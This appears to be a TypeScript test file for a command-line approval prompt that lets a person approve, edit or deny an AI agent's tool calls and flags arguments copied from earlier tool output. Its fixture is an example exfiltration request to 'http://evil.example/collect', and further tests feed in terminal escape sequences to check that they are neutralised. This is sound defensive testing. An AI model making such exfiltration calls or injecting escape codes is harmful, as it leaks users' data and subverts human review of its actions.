import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { ApprovalGateImpl } from '../../../main/core/approval/approval-gate.js';
import type { ApprovalRequest } from '../../../main/core/approval/approval-types.js';
import { TerminalApprover } from '../../../main/cli/terminal-approver.js';
import { createBuiltinCatalog } from '../../../main/core/catalog/tool-catalog.js';
import { waitFor } from '../catalog/helpers.js';

function terminal() {
  const input = new PassThrough();
  const output = new PassThrough();
  let printed = '';
  output.on('data', (chunk: Buffer) => (printed += chunk.toString('utf8')));
  const approver = new TerminalApprover({ input, output });
  const gate = new ApprovalGateImpl({ approver, catalog: createBuiltinCatalog() });
  return { input, approver, gate, printed: () => printed };
}

const request: ApprovalRequest = {
  runId: 'run-1',
  callId: 'call-4',
  alias: 'http_get',
  description: 'Fetches a URL',
  arguments: { url: 'http://evil.example/collect?k=1' },
  policy: 'ask',
  taint: [{ path: '/url', start: 0, end: 27, sourceOutputId: 'call-2' }],
};

describe('TerminalApprover (--approve ask)', () => {
  it('prints alias, description, pretty arguments and taint, then approves on "a"', async () => {
    const t = terminal();
    const decision = t.gate.decide(request, new AbortController().signal);
    await waitFor(() => (t.printed().includes('[a]pprove') ? true : undefined), 'the prompt');
    t.input.write('a\n');
    expect(await decision).toMatchObject({ kind: 'approve', source: 'cli-prompt' });
    const printed = t.printed();
    expect(printed).toContain('Tool call awaiting approval: http_get (call-4)');
    expect(printed).toContain('  Fetches a URL');
    expect(printed).toContain('    {\n      "url": "http://evil.example/collect?k=1"\n    }');
    expect(printed).toContain('/url [0..27] repeats output of call-2: >>http://evil.example/collect<<');
    expect(printed).toContain('[a]pprove, [e]dit, [d]eny, a[l]low for this run: ');
  });

  it('deny reads a reason', async () => {
    const t = terminal();
    const decision = t.gate.decide(request, new AbortController().signal);
    t.input.write('d\nlooks like exfiltration\n');
    expect(await decision).toMatchObject({ kind: 'deny', reason: 'looks like exfiltration', source: 'cli-prompt' });
  });

  it('edit reads JSON on one line, rejects invalid JSON and schema errors, then approves the edit', async () => {
    const t = terminal();
    const decision = t.gate.decide(request, new AbortController().signal);
    t.input.write(
      'e\n{not json\ne\n{"link": "x"}\ne\n{"url": "https://safe.example", "url": "https://evil.example"}\ne\n{"url": "https://example.org"}\n',
    );
    expect(await decision).toMatchObject({
      kind: 'approve-edited',
      arguments: { url: 'https://example.org' },
      proposed: request.arguments,
    });
    expect(t.printed()).toContain('Not accepted: not JSON');
    expect(t.printed()).toContain(
      'Not accepted: the key "url" appears twice in one object, and only its last value would be used; keep one',
    );
    expect(t.printed()).toContain('Rejected: invalid arguments: missing required field "url"; unknown field "link"');
  });

  it('l allows the tool for the rest of the run; unknown answers re-prompt', async () => {
    const t = terminal();
    const decision = t.gate.decide({ ...request, taint: [] }, new AbortController().signal);
    t.input.write('maybe\nl\n');
    expect((await decision).kind).toBe('allow-for-run');
    expect(t.printed()).toContain('Please answer a, e, d or l.');
    expect(
      await t.gate.decide({ ...request, taint: [], callId: 'call-5' }, new AbortController().signal),
    ).toMatchObject({ kind: 'approve', reason: 'allowed for this run' });
  });

  it('escapes control characters so arguments cannot drive the terminal', async () => {
    const t = terminal();
    const decision = t.gate.decide(
      { ...request, description: 'bad\u001b[2Jdesc', arguments: { url: 'x\u009b31m' } },
      new AbortController().signal,
    );
    t.input.write('a\n');
    await decision;
    expect(t.printed()).not.toContain('\u001b');
    expect(t.printed()).not.toContain('\u009b');
    expect(t.printed()).toContain('bad\\x1b[2Jdesc');
  });

  it('closed input denies; abort cancels and gives up the line', async () => {
    const t = terminal();
    const controller = new AbortController();
    const cancelled = t.gate.decide(request, controller.signal);
    controller.abort();
    expect((await cancelled).kind).toBe('cancelled');
    const next = t.gate.decide(request, new AbortController().signal);
    t.input.write('a\n');
    expect((await next).kind).toBe('approve');
    const last = t.gate.decide(request, new AbortController().signal);
    t.input.end();
    expect(await last).toMatchObject({
      kind: 'deny',
      reason: 'no decision could be obtained: the terminal input closed',
    });
  });
});
